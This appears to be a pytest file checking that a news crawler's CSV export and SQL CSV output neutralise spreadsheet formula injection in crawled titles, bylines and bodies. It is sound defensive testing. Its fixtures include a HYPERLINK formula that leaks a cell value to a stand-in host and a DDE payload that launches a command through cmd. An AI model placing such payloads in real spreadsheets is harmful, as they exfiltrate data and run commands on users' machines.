"""CSV out of the archive: crawled text never reaches a spreadsheet as a formula.

The archive is written by the project's own writer with titles, sections,
bylines, summaries and bodies that a spreadsheet would run (``=HYPERLINK(…)``,
``+``, ``-``, ``@``, tab, carriage return, full-width ``＝``) and a bare ``\\r``
inside a body; ``export`` and ``sql --csv`` are read back with Python's csv
module.
"""

from __future__ import annotations

import csv
import io
import json
import random
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from bench.synthetic import synthetic_row
from crawler.archive import RECORD_COLUMNS, ArchiveWriter, read_table
from crawler.cli import main

ROOT = Path(__file__).resolve().parent.parent
HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/leak?"&A1,"Click for details")'
# (title, how the title must come out of a default CSV)
TITLES = (
    (HYPERLINK, "'" + HYPERLINK),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
    ("'=already quoted", "'=already quoted"),  # starts with ', not a formula
    ("Plain title = fine", "Plain title = fine"),
    (" =1+1 after a space", " =1+1 after a space"),
)
BODY = "first line\rsecond line after a bare carriage return\r=third"
TEXT_COLUMNS = [n for n in RECORD_COLUMNS if n not in ("tags", "authors", "images")]
TEXT_COLUMNS = [n for n in TEXT_COLUMNS if n not in ("published_at", "fetched_at")]
DANGEROUS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"


def expected_cell(value: Any) -> str:
    """The rule, spelt out: text whose first character is in DANGEROUS gets a leading '."""
    if value is None:
        return ""
    return "'" + value if value[:1] and value[0] in DANGEROUS else value


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("csv") / "archive"
    rng = random.Random(11)
    run = "20260101T000000Z-formulas"
    with ArchiveWriter(root, run) as writer:
        for n, (title, _) in enumerate(TITLES):
            row = synthetic_row(rng, n, datetime(2025, 3, 1 + n, 8, tzinfo=UTC), run)
            row.update(
                site="qdnd.vn",
                title=title,
                section="-quoc-phong" if n % 2 else "@bien-dao",
                summary="+ summary" if n % 3 else None,
                byline="=cmd|' /C calc'!A0",
                body=BODY if n % 2 else f"{title}\r{row['body']}",
                tags=["=1+1", "-x"],
                authors=["@someone"],
            )
            writer.add(row)
    return root


def newest_rows(root: Path) -> dict[str, dict[str, Any]]:
    return {r["url"]: r for r in read_table(root).to_pylist()}


def read_csv(text: str) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    assert all(len(r) == len(header) for r in body), [len(r) for r in body]
    return [dict(zip(header, r, strict=True)) for r in body]


def export_csv(root: Path, target: Path, *extra: str) -> list[dict[str, str]]:
    argv = ["export", "--archive", str(root), "--format", "csv", "-o", str(target), *extra]
    assert main(argv) == 0
    with target.open(encoding="utf-8", newline="") as handle:  # newline="": \r kept as is
        text = handle.read()
    assert text.startswith('"url","url_key"')  # every field quoted, the header too
    return read_csv(text)


def test_export_neutralises_formulas_and_keeps_rows_whole(archive: Path, tmp_path: Path) -> None:
    originals = newest_rows(archive)
    rows = export_csv(archive, tmp_path / "out.csv")
    assert len(rows) == len(TITLES)  # the bare \r split no row
    by_title = {r["title"]: r for r in rows}
    for title, shown in TITLES:
        assert shown in by_title, (title, sorted(by_title))
    for row in rows:
        original = originals[row["url"]]
        for name in TEXT_COLUMNS:
            assert row[name] == expected_cell(original[name]), (name, row[name])
        # Lists are JSON text: they start with "[", which no spreadsheet runs.
        assert json.loads(row["tags"]) == ["=1+1", "-x"] and row["tags"].startswith("[")
        assert json.loads(row["authors"]) == ["@someone"]
        assert json.loads(row["images"]) == original["images"]
        assert row["byline"] == "'=cmd|' /C calc'!A0"
    # The bare \r stays inside its cell, the body whole.
    assert sum(r["body"] == BODY for r in rows) == len(TITLES) // 2


def test_raw_cells_gives_the_archive_back_exactly(archive: Path, tmp_path: Path) -> None:
    originals = newest_rows(archive)
    rows = export_csv(archive, tmp_path / "raw.csv", "--raw-cells")
    assert len(rows) == len(TITLES)
    assert sorted(r["title"] for r in rows) == sorted(t for t, _ in TITLES)
    for row in rows:
        original = originals[row["url"]]
        for name in TEXT_COLUMNS:
            assert row[name] == (original[name] or ""), name
        assert json.loads(row["tags"]) == original["tags"]
    assert sum(r["body"] == BODY for r in rows) == len(TITLES) // 2


def sql_csv(root: Path, statement: str, *extra: str) -> list[dict[str, str]]:
    """``crawler sql … --csv`` as a separate process: its standard output, byte for byte."""
    argv = ["sql", statement, "--archive", str(root), "--csv", *extra]
    done = subprocess.run(
        [sys.executable, "-m", "crawler.cli", *argv],
        capture_output=True,
        cwd=ROOT,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    return read_csv(done.stdout.decode("utf-8"))


def test_sql_csv_neutralises_text_not_numbers(archive: Path) -> None:
    statement = (
        'SELECT title, body, -5 AS "-n", -2.5 AS x, tags, 1 AS "=1+1" FROM latest ORDER BY url'
    )
    originals = sorted(newest_rows(archive).values(), key=lambda r: r["url"])
    rows = sql_csv(archive, statement)
    assert len(rows) == len(TITLES) and list(rows[0]) == [
        "title",
        "body",
        "'-n",
        "x",
        "tags",
        "'=1+1",
    ]
    for row, original in zip(rows, originals, strict=True):
        assert row["title"] == expected_cell(original["title"])
        assert row["body"] == expected_cell(original["body"])
        assert row["'-n"] == "-5" and row["x"] == "-2.5"  # numbers are numbers, not formulas
        assert json.loads(row["tags"]) == ["=1+1", "-x"]
    raw = sql_csv(archive, statement, "--raw-cells")
    assert list(raw[0]) == ["title", "body", "-n", "x", "tags", "=1+1"]
    assert [r["title"] for r in raw] == [o["title"] for o in originals]
    assert [r["body"] for r in raw] == [o["body"] for o in originals]
